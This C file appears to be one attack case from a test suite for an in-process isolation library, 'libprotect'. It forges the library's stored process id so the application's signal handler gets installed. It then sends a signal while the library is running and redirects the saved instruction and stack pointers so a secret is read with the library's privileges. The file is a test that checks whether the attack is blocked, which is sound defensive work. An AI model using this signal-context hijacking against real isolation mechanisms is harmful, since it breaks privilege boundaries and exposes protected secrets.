/* libprotect tells a child that shares its memory (vfork, posix_spawn) by
 * comparing getpid() with the process id it keeps: the attacker rewrites
 * that record, so that libprotect takes its own process for such a child
 * and hands the application's sigaction to the kernel as asked.  The
 * application's handler would then run as the kernel's, for a signal
 * delivered inside the library, with the library's live context: it points
 * it at application code, which runs with the library's rights.  our_pid */
#define _GNU_SOURCE
#include "attack.h"
#include "libprotect_symbols.h"

#include <pthread.h>
#include <signal.h>
#include <ucontext.h>

static uint8_t stack[65536] __attribute__((aligned(16)));
static volatile int handled;

static void steal(void)
{
    /* With the library's rights, its own export is a nested call. */
    read_secret_at(VAULT_DATA, vault_address(VAULT_DATA)->secret); /* exits */
}

static void redirect(int sig, siginfo_t *si, void *ctx)
{
    ucontext_t *uc = ctx;
    uc->uc_mcontext.gregs[REG_RIP] = (greg_t)(uintptr_t)steal;
    uc->uc_mcontext.gregs[REG_RSP] = (greg_t)(uintptr_t)(stack + sizeof stack - 8);
    handled = 1;
}

static void *signal_later(void *main_thread)
{
    usleep(200 * 1000);
    pthread_kill(*(pthread_t *)main_thread, SIGUSR1);
    return NULL;
}

int main(void)
{
    vault_open();
    pid_t *our_pid = libprotect_symbol("our_pid");
    if (our_pid)
        *our_pid = 1;
    struct sigaction sa = {.sa_sigaction = redirect, .sa_flags = SA_SIGINFO};
    sigaction(SIGUSR1, &sa, NULL);
    pthread_t self = pthread_self(), t;
    pthread_create(&t, NULL, signal_later, &self);
    vault_hold(1000); /* inside the library for a second */
    pthread_join(t, NULL);
    blocked(handled ? "the handler ran, and the library went on as it was" : "the handler did not run");
}
